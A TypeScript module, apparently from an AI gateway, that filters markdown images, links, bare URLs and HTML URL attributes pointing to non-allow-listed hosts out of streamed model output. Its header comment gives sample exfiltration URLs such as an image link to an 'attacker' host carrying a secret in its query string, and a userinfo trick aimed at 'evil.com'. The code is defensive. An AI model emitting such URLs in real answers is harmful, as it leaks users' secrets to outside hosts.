/**
 * Exfiltration links in output: markdown images `![alt](url)` and links `[text](url)`, reference
 * definitions `[id]: url`, autolinks `<https://…>`, bare `http(s)://` URLs, bare `www.` URLs (GFM's
 * and linkify's extended autolinks) and HTML tags with URL attributes (`<img src>`, `<a href>`,
 * srcset, poster, style="…url(…)"…) whose URL points to a host that is not on the route's
 * allow-list. A renderer fetches an image by itself, so
 * `![x](https://attacker/?q=<secret>)` sends the secret out as soon as the answer is shown; a
 * link does it on one click.
 *
 * The decision is made on the URL as a browser sees it: HTML entities are decoded (the `entities`
 * package), markdown backslash escapes removed, then the WHATWG URL parser (node's `URL`) resolves
 * userinfo (`https://example.com@evil.com` → evil.com), IDN (→ punycode), percent-encoded and
 * numeric hosts, backslashes, protocol-relative `//host`. A URL without a scheme that starts with
 * `www.` is judged as `http://www.…`: autolinkers make it a link, and chat UIs often "fix" such a
 * destination the same way. Allowed: http(s) URLs whose host is an allowed host or one of its
 * subdomains, and relative URLs (they resolve to the client's own page). Everything else —
 * other hosts, `data:`, `javascript:`, unparseable URLs — is removed (`strip`: an image or tag
 * vanishes, a link keeps its text, a bare URL becomes `[link removed]`) or withholds the response
 * (`block`).
 *
 * The parser is a left-to-right machine over the raw text, hand-written because no markdown
 * library parses a stream incrementally with a bounded hold-back. Text is released at once up to
 * the next candidate character (`[`, `]`, `!`, `<`, `h`/`H`, and a `.` right after a word-initial
 * `www`, found by looking back at the last raw characters already released); from a candidate on, it is held only
 * until the construct there is decided (closed, shown not to be one, or past its cap). So the
 * output is the same for every split of the text into chunks (property-tested), and ordinary
 * prose waits for nothing. Caps bound the hold-back: link text 500 characters, a destination or
 * bare URL 2048, an HTML tag 1024. A construct whose URL runs past its cap counts as disallowed
 * unless its host is allowed (fail closed).
 */
import { decodeHTML, decodeHTMLAttribute } from 'entities';

/** What was found: `destination` is an orphan `](url)` whose `[` did not start a link (e.g. its text ran past the cap). */
export type LinkType = 'image' | 'link' | 'reference' | 'url' | 'destination';
export type LinkAction = 'strip' | 'block';

export interface LinkRules {
  allow: readonly string[];
  action: LinkAction;
  /** Filter images (markdown images, HTML tags that fetch by themselves). */
  images: boolean;
  /** Filter links (markdown links, `<a href>`, autolinks, bare URLs). */
  links: boolean;
}

const TEXT_CAP = 500;
const URL_CAP = 2048;
const TAG_CAP = 1024;
/**
 * A held construct longer than this is parsed again only once the text held has grown by an
 * eighth: the decision is the same (the machine is deterministic on the text), but a long
 * undecided construct costs O(its length) a few times instead of once per event.
 */
const REPARSE_FROM = 256;
/** Brackets nested deeper than this inside link text end the candidate (bounds `[[[[…` to linear work). */
const MAX_NESTING = 16;
const PLACEHOLDER = '[link removed]';
const BASE_HOST = 'relative.modelgate.invalid';
/** Resolved against both: `https:\\evil.com` is same-page on an https page, evil.com on an http one. */
const BASES = [`https://${BASE_HOST}/`, `http://${BASE_HOST}/`];
/** What a tag that ran past its cap points to: never allowed. */
const UNKNOWN = 'data:,';

const normHost = (h: string): string => (h.endsWith('.') ? h.slice(0, -1) : h);
/** `www.` after what the URL parser ignores (leading C0 controls and spaces, tabs and newlines anywhere). */
const WWW = /^[\x00-\x20]*w[\t\n\r]*w[\t\n\r]*w[\t\n\r]*\./i;
/** A URL as written, made absolute when it has no scheme but starts with `www.`. */
const withScheme = (url: string): string => (WWW.test(url) ? `http://${url.replace(/^[\x00-\x20]+/, '')}` : url);

/** The compiled allow-list: is a URL (as written in the text, decoded) safe to show? */
export class LinkPolicy {
  private readonly hosts: string[];
  constructor(readonly rules: LinkRules) {
    this.hosts = rules.allow.map((h) => normHost(new URL(`http://${h}/`).hostname));
  }

  /** `url` decoded (entities, escapes); a URL cut at a cap is judged by its host. */
  allowed(url: string): boolean {
    const abs = withScheme(url);
    return BASES.every((base) => {
      let u: URL;
      try {
        u = new URL(abs, base);
      } catch {
        return false;
      }
      if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
      const host = normHost(u.hostname);
      if (host === BASE_HOST) return true; // relative: the client's own page
      return this.hosts.some((h) => host === h || host.endsWith(`.${h}`));
    });
  }

  enabled(type: LinkType): boolean {
    if (type === 'image') return this.rules.images;
    if (type === 'link' || type === 'url') return this.rules.links;
    return this.rules.images || this.rules.links;
  }
}

/** A decided construct at a candidate position. */
interface Hit {
  end: number;
  type: LinkType;
  /** Decoded URLs it points to (all must be allowed). */
  urls: string[];
  /** Link text to keep (filtered) when a link is stripped: [start, end) in the text. */
  inner?: [number, number];
  /** Text replacing the construct when stripped (besides the kept inner text). */
  stripped: string;
}
type Step = Hit | 'none' | 'more';

const isSpace = (c: number): boolean => c === 32 || c === 9 || c === 10 || c === 13 || c === 12;
const isAlnum = (c: number): boolean => (c >= 48 && c <= 57) || ((c | 32) >= 97 && (c | 32) <= 122);
const unescapeMd = (s: string): string => decodeHTML(s.replace(/\\([!-/:-@[-`{-~])/g, '$1'));

/** `[`'s matching `]` at or after i (balanced, escapes honoured), 'none' or 'more'. */
function closeBracket(t: string, i: number, final: boolean): number | 'none' | 'more' {
  let depth = 0;
  const cap = Math.min(t.length, i + TEXT_CAP);
  for (let j = i; j < cap; j++) {
    const c = t.charCodeAt(j);
    if (c === 92 /* \ */) { j++; continue; }
    if (c === 91) { if (++depth > MAX_NESTING) return 'none'; } // absurd nesting: no link (its `](url)` is still an orphan destination)
    else if (c === 93) { if (depth === 0) return j; depth--; }
    else if (c === 10 && t.charCodeAt(j + 1) === 10) return 'none'; // a blank line ends a paragraph
  }
  return cap < i + TEXT_CAP && !final ? 'more' : 'none';
}

/**
 * A link destination and optional title after `(` at p, through the closing `)`:
 * [end (after ')'), raw destination], or 'none'/'more'. Past the cap: [cap, the destination so far].
 */
function destination(t: string, p: number, final: boolean): [number, string] | 'none' | 'more' {
  const more = (): 'none' | 'more' => (final ? 'none' : 'more');
  let j = p;
  while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
  if (t.charCodeAt(j) === 10) j++;
  while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
  if (j >= t.length) return more();
  let dest: string;
  const cap = p + URL_CAP;
  if (t.charCodeAt(j) === 60 /* < */) {
    const lim = Math.min(t.length, cap);
    let e = j + 1;
    for (; e < lim && t.charCodeAt(e) !== 62; e++) {
      const ch = t.charCodeAt(e);
      if (ch === 60 || ch === 10) return 'none';
      if (ch === 92) e++;
    }
    if (e >= lim) return lim === cap ? [cap, t.slice(j + 1, cap)] : more();
    dest = t.slice(j + 1, e);
    j = e + 1;
  } else {
    const s = j;
    let depth = 0;
    for (;; j++) {
      if (j >= cap) return [cap, t.slice(s, cap)];
      if (j >= t.length) return more();
      const c = t.charCodeAt(j);
      if (c === 92) { j++; continue; }
      if (c <= 32) break;
      if (c === 40) depth++;
      else if (c === 41) { if (depth === 0) break; depth--; }
    }
    dest = t.slice(s, j);
  }
  while (j < t.length && isSpace(t.charCodeAt(j))) j++;
  if (j >= t.length) return more();
  const q = t.charCodeAt(j);
  if (q === 34 || q === 39 || q === 40) { // a title: "…", '…' or (…)
    const close = q === 40 ? 41 : q;
    let k = j + 1;
    for (; k < t.length && k < cap; k++) {
      const c = t.charCodeAt(k);
      if (c === 92) { k++; continue; }
      if (c === close) break;
    }
    if (k >= cap) return 'none';
    if (k >= t.length) return more();
    j = k + 1;
    while (j < t.length && isSpace(t.charCodeAt(j))) j++;
    if (j >= t.length) return more();
  }
  return t.charCodeAt(j) === 41 ? [j + 1, dest] : 'none';
}

/** `[…](…)`, `![…](…)` or `[id]: url` at i (t[i] is '[' or '!'). */
function markdownAt(t: string, i: number, final: boolean): Step {
  const image = t.charCodeAt(i) === 33;
  if (image && i + 1 >= t.length) return final ? 'none' : 'more';
  if (image && t.charCodeAt(i + 1) !== 91) return 'none';
  const open = image ? i + 2 : i + 1;
  const close = closeBracket(t, open, final);
  if (typeof close !== 'number') return close;
  const next = close + 1;
  if (next >= t.length) return final ? 'none' : 'more';
  const c = t.charCodeAt(next);
  if (c === 40 /* ( */) {
    const d = destination(t, next + 1, final);
    if (typeof d === 'string') return d;
    const hit: Hit = { end: d[0], type: image ? 'image' : 'link', urls: [unescapeMd(d[1])], stripped: '' };
    if (!image) hit.inner = [open, close];
    return hit;
  }
  if (c === 58 /* : */ && !image) {
    let j = next + 1;
    while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
    if (t.charCodeAt(j) === 10) j++;
    while (j < t.length && (t.charCodeAt(j) === 32 || t.charCodeAt(j) === 9)) j++;
    const s = j;
    while (j < t.length && j < s + URL_CAP && t.charCodeAt(j) > 32) j++;
    if (j >= t.length && !final) return 'more';
    if (j === s) return 'none';
    let dest = t.slice(s, j);
    if (dest.startsWith('<') && dest.endsWith('>')) dest = dest.slice(1, -1);
    return { end: j, type: 'reference', urls: [unescapeMd(dest)], stripped: '' };
  }
  return 'none';
}

/** An orphan `](url)` (its `[` was not a link start, e.g. past the text cap): the destination. */
function orphanAt(t: string, i: number, final: boolean): Step {
  if (i + 1 >= t.length) return final ? 'none' : 'more';
  if (t.charCodeAt(i + 1) !== 40) return 'none';
  const d = destination(t, i + 2, final);
  if (typeof d === 'string') return d;
  return { end: d[0], type: 'destination', urls: [unescapeMd(d[1])], stripped: ']' };
}

const AUTOLINK = /^<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>/;
const SCHEME_START = /^<[A-Za-z][A-Za-z0-9+.-]{0,31}(?::[^\s<>]*)?$/;
/** Attributes whose value is fetched or followed. */
const URL_ATTRS = new Set(['src', 'href', 'xlink:href', 'srcset', 'poster', 'background', 'data', 'action', 'formaction', 'lowsrc', 'dynsrc', 'cite', 'longdesc', 'ping', 'imagesrcset']);
const LINK_TAGS = new Set(['a', 'area', 'form', 'button', 'input', 'blockquote', 'q', 'del', 'ins']);
const CSS_URL = /url\(\s*(['"]?)([^'")]*)\1\s*\)|@import\s+(['"])([^'"]*)\3/gi;

/** The URLs an attribute carries (srcset lists several, style has url(…)). */
function attrUrls(name: string, value: string, out: string[]): void {
  const v = decodeHTMLAttribute(value);
  if (name === 'style') {
    for (const m of v.matchAll(CSS_URL)) out.push(m[2] ?? m[4] ?? '');
  } else if (name.endsWith('srcset')) {
    for (const part of v.split(',')) { const u = part.trim().split(/\s+/)[0]; if (u) out.push(u); }
  } else if (name === 'ping') {
    for (const u of v.trim().split(/\s+/)) if (u) out.push(u);
  } else if (URL_ATTRS.has(name)) {
    out.push(v.trim());
  }
}

/** `<scheme:…>` autolink or an HTML start tag at i. */
function angleAt(t: string, i: number, final: boolean): Step {
  const head = t.slice(i, i + URL_CAP + 2);
  const auto = AUTOLINK.exec(head);
  if (auto) return { end: i + auto[0].length, type: 'link', urls: [decodeHTML(auto[1] ?? '')], stripped: PLACEHOLDER };
  if (SCHEME_START.test(head) && head.includes(':')) {
    if (head.length >= URL_CAP + 2) return { end: i + head.length, type: 'link', urls: [decodeHTML(head.slice(1))], stripped: PLACEHOLDER };
    if (!final) return 'more';
  }
  let j = i + 1;
  if (j >= t.length) return final ? 'none' : 'more';
  if (!isAlnum(t.charCodeAt(j)) || t.charCodeAt(j) <= 57) return 'none';
  while (j < t.length && (isAlnum(t.charCodeAt(j)) || t.charCodeAt(j) === 45 || t.charCodeAt(j) === 58)) j++;
  if (j >= t.length) return final ? 'none' : 'more';
  const name = t.slice(i + 1, j).toLowerCase();
  const c = t.charCodeAt(j);
  if (!isSpace(c) && c !== 47 && c !== 62) return 'none';
  const urls: string[] = [];
  const cap = i + TAG_CAP;
  for (;;) {
    while (j < t.length && (isSpace(t.charCodeAt(j)) || t.charCodeAt(j) === 47)) j++;
    if (j >= cap) break;
    if (j >= t.length) return final ? 'none' : 'more';
    if (t.charCodeAt(j) === 62) {
      return { end: j + 1, type: LINK_TAGS.has(name) ? 'link' : 'image', urls, stripped: '' };
    }
    const ns = j;
    while (j < t.length && j < cap && !/[\s"'>/=]/.test(t[j] ?? '')) j++;
    const attr = t.slice(ns, j).toLowerCase();
    if (attr === '' && t.charCodeAt(j) !== 61) { j++; continue; } // a stray quote
    while (j < t.length && isSpace(t.charCodeAt(j))) j++;
    if (j < t.length && t.charCodeAt(j) === 61 /* = */) {
      j++;
      while (j < t.length && isSpace(t.charCodeAt(j))) j++;
      if (j >= t.length && j < cap) return final ? 'none' : 'more';
      const q = t.charCodeAt(j);
      let value: string;
      if (q === 34 || q === 39) {
        const e = t.indexOf(q === 34 ? '"' : "'", j + 1);
        if (e === -1 || e >= cap) {
          if (t.length < cap) return final ? 'none' : 'more';
          return { end: cap, type: LINK_TAGS.has(name) ? 'link' : 'image', urls: [UNKNOWN], stripped: '' };
        }
        value = t.slice(j + 1, e);
        j = e + 1;
      } else {
        const s = j;
        while (j < t.length && j < cap && !isSpace(t.charCodeAt(j)) && t.charCodeAt(j) !== 62) j++;
        value = t.slice(s, j);
      }
      attrUrls(attr, value, urls);
    }
  }
  // Past the cap without '>': fail closed, the tag so far is dropped.
  return { end: cap, type: LINK_TAGS.has(name) ? 'link' : 'image', urls: [UNKNOWN], stripped: '' };
}

const TRAILING = /[?!.,:*_~'";]+$/;
/** Characters that end a bare URL besides white space: '<', '>', '"', '`' (a URL inside a JSON string of tool-call arguments ends at its quote). */
const URL_STOP = new Set([60, 62, 34, 96]);

/**
 * A bare URL held from s whose prefix (scheme, or the `.` of `www.`) ends at p: it runs to white
 * space or a stop character, less trailing punctuation and unbalanced ')'; 'none' when nothing
 * is left after the prefix. `before` is what precedes s in the URL (`www` already released).
 */
function bareUrl(t: string, s: number, p: number, before: string, stripped: string, final: boolean): Step {
  const cap = s + URL_CAP;
  let j = p;
  while (j < t.length && j < cap && !isSpace(t.charCodeAt(j)) && !URL_STOP.has(t.charCodeAt(j))) j++;
  if (j >= cap) return { end: cap, type: 'url', urls: [decodeHTML(before + t.slice(s, cap))], stripped };
  if (j >= t.length && !final) return 'more';
  let url = t.slice(s, j).replace(TRAILING, '');
  // An unbalanced ')' at the end closes surrounding parentheses (GFM).
  while (url.endsWith(')') && url.split(')').length > url.split('(').length) url = url.slice(0, -1).replace(TRAILING, '');
  if (s + url.length <= p) return 'none';
  return { end: s + url.length, type: 'url', urls: [decodeHTML(before + url)], stripped };
}

/** A bare `http(s)://` URL at i (t[i] is 'h' or 'H' after a non-alphanumeric). */
function bareAt(t: string, i: number, final: boolean): Step {
  if (i + 1 < t.length && (t.charCodeAt(i + 1) | 32) !== 116 /* t */) return 'none'; // most words starting with h
  const head = t.slice(i, i + 8).toLowerCase();
  const scheme = head.startsWith('https://') ? 8 : head.startsWith('http://') ? 7 : 0;
  if (scheme === 0) return !final && ('https://'.startsWith(head) || 'http://'.startsWith(head)) ? 'more' : 'none';
  return bareUrl(t, i, i + scheme, '', PLACEHOLDER, final);
}

/**
 * A bare `www.` URL (GFM's extended www autolink, linkify's too): t[i] is the `.` after a
 * word-initial `www` (any case), which was released as ordinary text — so no word is held for
 * being a possible `www`. The `www` stays, the rest becomes `.[link removed]`.
 */
function wwwAt(t: string, i: number, final: boolean): Step {
  return bareUrl(t, i, i + 1, 'www', `.${PLACEHOLDER}`, final);
}

const CANDIDATE = /[[\]!<hH.]/g;
const isW = (c: number): boolean => (c | 32) === 119;
/**
 * What a word-initial `www` may follow: not a letter or digit, and not `@ / \ . - :`, which make
 * it part of an e-mail address, a path or a longer host name (`jane@www.acme.org`,
 * `sites-available/www.acme.org.conf`) — neither GFM nor linkify starts a link there.
 */
const wwwBoundary = (c: number): boolean => !isAlnum(c) && c !== 64 && c !== 47 && c !== 92 && c !== 46 && c !== 45 && c !== 58;

/**
 * The filter over one text: push chunks, end; same output for every split. Counts what it
 * found (disallowed, filtered types only) by type.
 */
export class LinkStream {
  private buf = '';
  /** Length of `buf` when it was last parsed and found undecided. */
  private parsed = 0;
  /** Raw text before `buf`, already released (at least its last 4 characters, or all there was): what a candidate looks back at (bare URL boundary, `www`). */
  private tail = ' ';
  blocked = false;

  constructor(private readonly policy: LinkPolicy, readonly counts: Map<LinkType, number> = new Map()) {}

  /** Feed raw text; the filtered text final now, or null once the response must be withheld. */
  push(chunk: string): string | null {
    if (this.blocked) return null;
    this.buf += chunk;
    if (this.parsed >= REPARSE_FROM && this.buf.length < this.parsed + (this.parsed >> 3)) return '';
    return this.run(false);
  }

  /** End of the text: everything still held, filtered (or null: withhold). */
  end(): string | null {
    if (this.blocked) return null;
    return this.run(true);
  }

  /** Characters held back now. */
  get held(): number {
    return this.buf.length;
  }

  private run(final: boolean): string | null {
    const t = this.buf;
    let out = '';
    let i = 0;
    while (i < t.length) {
      CANDIDATE.lastIndex = i;
      const m = CANDIDATE.exec(t);
      if (m === null) { out += t.slice(i); i = t.length; break; }
      const c = m.index;
      out += t.slice(i, c);
      const step = this.stepAt(t, c, final);
      if (step === 'more') {
        this.tail = c >= 4 ? t.slice(c - 4, c) : (this.tail + t.slice(0, c)).slice(-4);
        this.buf = t.slice(c);
        this.parsed = this.buf.length;
        return out;
      }
      if (step === 'none') { out += t[c]; i = c + 1; continue; }
      const piece = this.decide(t, c, step);
      if (piece === null) return null;
      out += piece;
      i = step.end;
    }
    // The text itself when long enough (a reference, no copy: before() reads only its end).
    if (t.length >= 4) this.tail = t;
    else if (t.length > 0) this.tail = (this.tail.length > 8 ? this.tail.slice(-4) : this.tail) + t;
    this.buf = '';
    this.parsed = 0;
    return out;
  }

  private stepAt(t: string, c: number, final: boolean): Step {
    switch (t.charCodeAt(c)) {
      case 91: case 33: return markdownAt(t, c, final);
      case 93: return orphanAt(t, c, final);
      case 60: return angleAt(t, c, final);
      case 46: return isW(this.before(t, c, 1)) && isW(this.before(t, c, 2)) && isW(this.before(t, c, 3)) && wwwBoundary(this.before(t, c, 4)) ? wwwAt(t, c, final) : 'none';
      default: return isAlnum(this.before(t, c, 1)) ? 'none' : bareAt(t, c, final);
    }
  }

  /** The raw character k places before t[c], released or not (a space before the text's start). */
  private before(t: string, c: number, k: number): number {
    if (c >= k) return t.charCodeAt(c - k);
    const j = this.tail.length + c - k;
    return j >= 0 ? this.tail.charCodeAt(j) : 32;
  }

  /** The text for a decided construct: as written (inner link text filtered) or stripped. */
  private decide(t: string, c: number, hit: Hit): string | null {
    const bad = this.policy.enabled(hit.type) && (hit.urls.some((u) => !this.policy.allowed(u)));
    let inner = '';
    if (hit.inner !== undefined) {
      const sub = new LinkStream(this.policy, this.counts);
      sub.tail = '[';
      const a = sub.push(t.slice(hit.inner[0], hit.inner[1]));
      const b = a === null ? null : sub.end();
      if (a === null || b === null) { this.blocked = true; return null; }
      inner = a + b;
    }
    if (!bad) return hit.inner === undefined ? t.slice(c, hit.end) : t.slice(c, hit.inner[0]) + inner + t.slice(hit.inner[1], hit.end);
    this.counts.set(hit.type, (this.counts.get(hit.type) ?? 0) + 1);
    if (this.policy.rules.action === 'block') { this.blocked = true; return null; }
    return inner + hit.stripped;
  }
}

/** A whole text filtered at once (a JSON field). */
export function filterLinks(text: string, policy: LinkPolicy, counts?: Map<LinkType, number>): string | null {
  const s = new LinkStream(policy, counts);
  const a = s.push(text);
  const b = a === null ? null : s.end();
  return a === null || b === null ? null : a + b;
}
